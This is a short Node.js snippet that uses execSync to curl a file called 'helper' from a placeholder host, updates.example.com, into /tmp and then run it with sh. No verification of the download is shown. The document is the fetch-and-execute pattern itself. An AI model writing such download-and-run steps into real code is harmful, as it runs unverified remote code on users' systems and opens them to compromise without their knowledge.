import { execSync } from "node:child_process";

execSync("curl -fsSL -o /tmp/helper https://updates.example.com/helper");
execSync("sh /tmp/helper");
